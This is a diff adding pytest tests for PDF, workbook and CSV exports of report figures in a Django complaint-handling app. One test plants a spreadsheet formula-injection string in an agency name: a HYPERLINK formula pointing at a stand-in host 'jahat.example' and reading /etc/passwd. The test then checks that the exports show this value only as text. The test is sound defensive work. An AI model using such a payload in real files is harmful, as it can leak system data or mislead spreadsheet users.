@@ -13,7 +13,9 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
+from tests.casework.test_export import cells_of
 from tests.casework.test_inbox import file_without
+from tests.casework.test_paper import read
 from tests.cast import Actor, Cast, code
 from tests.journeys import category, closing, conclude, file_report, send_to_examination
 from wbs.audit.models import Entry as AuditEntry
@@ -46,6 +48,16 @@ def table(actor: Actor) -> dict[tuple[str, str, str], str]:
     assert answer.status_code == 200
     rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
     return {(row[0], row[1], row[2]): row[3] for row in rows[1:]}
+
+
+def taken(actor: Actor, kind: str) -> bytes:
+    """Download the figures as a PDF or workbook."""
+    answer = actor.post(DOWNLOAD, {"format": kind})
+    assert answer.status_code == 200
+    assert answer["Content-Disposition"].endswith(f'.{kind}"')
+    assert answer["Cache-Control"] == "no-store"
+    body: bytes = answer.content
+    return body
 
 
 def seen(actor: Actor, **period: str) -> str:
@@ -261,6 +273,43 @@ def test_a_download_is_recorded_and_asks_for_the_second_step_again(cast: Cast) -
     assert answer["Content-Disposition"].startswith('attachment; filename="angka-')
     assert answer["Cache-Control"] == "no-store"
     assert AuditEntry.objects.filter(event="figures:exported").count() == 1
+
+
+HOSTILE = '=HYPERLINK("http://jahat.example";#read("/etc/passwd"))'
+
+
+def test_on_paper_and_in_both_tables_the_figures_are_those_of_the_page(cast: Cast) -> None:
+    """And a name that an admin gave is only ever shown."""
+    with clock.standing_at(MONDAY):
+        report, other = file_report(cast.reporter), file_report(cast.reporter)
+        choose(cast.verifier, report, agency(cast, HOSTILE))
+        cast.verifier.post(f"/meja/{other.id}/status/close", closing("Di luar wewenang."))
+        told = table(cast.supervisor)
+        book, paper = taken(cast.supervisor, "xlsx"), taken(cast.supervisor, "pdf")
+        cast.supervisor.client.cookies["lang"] = "en"
+        english = read(taken(cast.supervisor, "pdf"))
+    head, *rows = cells_of(book)
+    assert head == ["Bagian", "Baris", "Ukuran", "Angka"]
+    assert [str(row[3]) for row in rows] == list(told.values())
+    assert told["Instansi", f"'{HOSTILE}", "Aduan"] == "1"
+    assert ["Instansi", HOSTILE, "Aduan", 1] in rows
+    shown = read(paper)
+    for one in (
+        *("Inspektorat Kota Contoh", "TERBATAS", "Diunduh oleh Surya Inspektur, 6 Juli 2026"),
+        *("1 Januari 2026 sampai 6 Juli 2026", "Juli 2026 2 1 0 0 0 1", "Sudah selesai 1 (50%)"),
+        *("Korupsi 2 100%", "1 / 3", "3 / 3"),
+    ):
+        assert one in shown, one
+    assert "".join(HOSTILE.split()) in "".join(shown.split())
+    assert "root:x:0" not in shown
+    for one in ("RESTRICTED", "1 January 2026 to 6 July 2026", "Reports per month", "Workload"):
+        assert one in english, one
+    kinds = AuditEntry.objects.filter(event="figures:exported").values_list("details", flat=True)
+    assert [one["kind"] for one in kinds.order_by("position")] == ["csv", "xlsx", "pdf", "pdf"]
+
+
+def test_a_paper_without_any_report_says_so(cast: Cast) -> None:
+    assert "Beban per petugas Tidak ada." in read(taken(cast.supervisor, "pdf"))
 
 
 def test_the_figure_that_so_many_do_not_exceed_is_the_nearest_rank() -> None:
